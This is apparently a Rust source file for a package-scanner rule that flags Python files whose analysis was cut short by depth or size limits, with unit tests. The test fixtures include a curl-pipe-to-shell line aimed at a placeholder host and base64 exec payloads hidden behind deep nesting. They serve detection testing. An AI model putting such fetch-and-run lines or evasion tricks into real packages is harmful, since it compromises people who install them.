//! analysis-incomplete: a bound stopped the analysis of a file short, so what lies past it was
//! not vetted. Failing closed: that is a finding, never a quiet pass.

use crate::finding::RuleInfo;
use crate::finding::{Confidence, Severity};
use crate::inspect::context::RunContext;
use crate::inspect::{Emitter, FileCx, FileKind, MAX_PARSE_SIZE};

pub static INFO: RuleInfo = RuleInfo {
    id: "analysis-incomplete",
    severity: Severity::High,
    summary: "A limit stopped the analysis of a file: part of it was not vetted",
    help: "The inspector is bounded so that hostile input cannot exhaust it: Python files over \
           32 MiB are not parsed, expressions nested more than 2,000 deep and statements \
           nested more than 400 deep are not walked, decoded code is parsed again at most 3 \
           layers deep and up to 256 KiB, and the evaluator stops at bounds of size, length, \
           layers and work. Each of these is a place where a payload could hide, so reaching \
           one is reported (high, blocking by default; medium in test, example and doc files, \
           which installing and importing never run) with the line and the bound. Real \
           projects rarely reach any of them; when one does (a generated module), read the \
           file and add an ignore entry with the reason.",
};

pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
    if !matches!(cx.kind, FileKind::Python | FileKind::Pth) {
        return;
    }
    let sev = if cx.top_ctx() == RunContext::Test {
        Severity::Medium
    } else {
        Severity::High
    };
    match cx.facts {
        Some(f) => {
            for (line, what) in &f.incomplete {
                out.emit(&INFO, sev, Confidence::High, *line, what.as_str(), None);
            }
        }
        None => {
            let len = cx.text.map_or(0, str::len);
            if len > MAX_PARSE_SIZE {
                let msg = format!(
                    "Python file of {} MiB (over {} MiB) was not parsed, only scanned as text",
                    len >> 20,
                    MAX_PARSE_SIZE >> 20
                );
                out.emit(&INFO, sev, Confidence::High, 0, msg, None);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::inspect::facts::{MAX_EXPR_DEPTH, MAX_STMT_DEPTH};
    use crate::inspect::rules::testutil::artifact;
    use crate::inspect::{inspect, InspectOptions};

    const PAYLOAD: &str = "exec(__import__('base64').b64decode('cHJpbnQoMSk='))";

    /// The analysis-incomplete findings of a wheel holding one file.
    fn findings(path: &str, src: &str) -> Vec<crate::finding::Finding> {
        let a = artifact("pkg-1.0-py3-none-any.whl", &[(path, src.as_bytes())]);
        inspect(&a, &InspectOptions::default())
            .into_iter()
            .filter(|f| f.rule == "analysis-incomplete")
            .collect()
    }

    fn incomplete(path: &str, src: &str) -> Vec<(Option<u32>, String, String)> {
        findings(path, src)
            .into_iter()
            .map(|f| (f.location.line, f.severity.to_string(), f.message))
            .collect()
    }

    #[test]
    fn code_nested_past_the_walk_bound_is_reported_not_skipped() {
        let n = MAX_EXPR_DEPTH as usize + 50;
        let src = format!("x = {}{PAYLOAD}{}\n", "not ".repeat(n), "");
        let got = incomplete("pkg/__init__.py", &src);
        assert_eq!(got.len(), 1, "{got:?}");
        assert_eq!(got[0].0, Some(1));
        assert_eq!(got[0].1, "high");
        assert!(got[0].2.contains("nested more than"), "{}", got[0].2);
        // The same payload shallow: walked, no bound reached.
        assert!(incomplete("pkg/__init__.py", &format!("x = not not {PAYLOAD}\n")).is_empty());
    }

    #[test]
    fn statements_nested_past_the_bound_are_reported() {
        let mut src = String::new();
        for i in 0..MAX_STMT_DEPTH as usize + 10 {
            src.push_str(&" ".repeat(i));
            src.push_str("if x:\n");
        }
        src.push_str(&" ".repeat(MAX_STMT_DEPTH as usize + 10));
        src.push_str(PAYLOAD);
        src.push('\n');
        let got = incomplete("pkg/__init__.py", &src);
        assert_eq!(got.len(), 1, "{got:?}");
        assert!(got[0].2.contains("statements nested"), "{}", got[0].2);
    }

    #[test]
    fn a_python_file_past_the_parse_bound_is_reported_and_still_scanned() {
        let pad = "# padding padding padding padding padding padding padding padding\n";
        let mut src = pad.repeat(crate::inspect::MAX_PARSE_SIZE / pad.len() + 10);
        src.push_str("import os\nos.system('curl -s https://x.example.invalid/p | sh')\n");
        let inc = findings("pkg/__init__.py", &src);
        assert_eq!(inc.len(), 1, "{inc:?}");
        assert!(
            inc[0].message.contains("was not parsed"),
            "{}",
            inc[0].message
        );
        assert_eq!(inc[0].severity.to_string(), "high");
    }

    #[test]
    fn exec_of_a_constant_the_evaluator_gave_up_on_is_reported() {
        // A decode chain deeper than the evaluator's layer bound.
        let mut arg = "'cHJpbnQoMSk='".to_string();
        for _ in 0..crate::inspect::decode::MAX_LAYERS as usize + 4 {
            arg = format!("b64decode({arg})");
        }
        let src = format!("from base64 import b64decode\nexec({arg})\n");
        let got = incomplete("setup.py", &src);
        assert!(
            got.iter().any(|g| g.0 == Some(2) && g.2.contains("exec")),
            "{got:?}"
        );
    }

    #[test]
    fn test_files_past_a_bound_are_medium() {
        let n = MAX_EXPR_DEPTH as usize + 5;
        let src = format!("x = {}{PAYLOAD}\n", "not ".repeat(n));
        let got = incomplete("tests/test_deep.py", &src);
        assert_eq!(got.len(), 1, "{got:?}");
        assert_eq!(got[0].1, "medium");
    }

    #[test]
    fn chains_too_deep_to_parse_are_reported_without_exhausting_the_stack() {
        let n = crate::inspect::facts::MAX_PARSE_NESTING as usize + 100;
        for src in [
            format!("y = {}\n{PAYLOAD}\n", vec!["1"; n].join("+")),
            format!("y = {}1\n{PAYLOAD}\n", "-".repeat(n)),
            format!("y = {}1{}\n{PAYLOAD}\n", "(".repeat(n), ")".repeat(n)),
            format!("y = f'{{{}1}}'\n{PAYLOAD}\n", "~".repeat(n)),
        ] {
            let inc = findings("pkg/__init__.py", &src);
            assert_eq!(inc.len(), 1, "{}: {inc:?}", &src[..12]);
            assert!(
                inc[0].message.contains("was not parsed"),
                "{}",
                inc[0].message
            );
            assert_eq!(inc[0].location.line, Some(1));
        }
    }

    #[test]
    fn the_nesting_estimate_ignores_comments_strings_and_flat_data() {
        use crate::inspect::facts::too_deep_to_parse;
        // Flat data: a long list of negative numbers, long strings full of operators, comments.
        let flat = format!("x = [{}]\n", vec!["-1.5e-3"; 20_000].join(", "));
        assert_eq!(too_deep_to_parse(&flat, 100), None);
        let s = format!(
            "s = '{}'\n# {}\nt = \"\"\"{}\"\"\"\n",
            "+-".repeat(5000),
            "((".repeat(5000),
            "[".repeat(5000)
        );
        assert_eq!(too_deep_to_parse(&s, 100), None);
        let many = "a = b + c * d\n".repeat(10_000);
        assert_eq!(too_deep_to_parse(&many, 100), None);
        // Nesting by operators, brackets, keyword operators and f-string contents.
        assert!(too_deep_to_parse(&format!("x = {}\n", vec!["1"; 200].join(" + ")), 100).is_some());
        assert!(too_deep_to_parse(&format!("x = {}y\n", "not ".repeat(200)), 100).is_some());
        assert!(too_deep_to_parse(&format!("x = {}", "[".repeat(200)), 100).is_some());
        assert!(too_deep_to_parse(&format!("x = f'{{{}}}'\n", "-".repeat(200)), 100).is_some());
        // A plain (non-f) string with the same contents is text.
        assert_eq!(
            too_deep_to_parse(&format!("x = r'{{{}}}'\n", "-".repeat(200)), 100),
            None
        );
    }
}
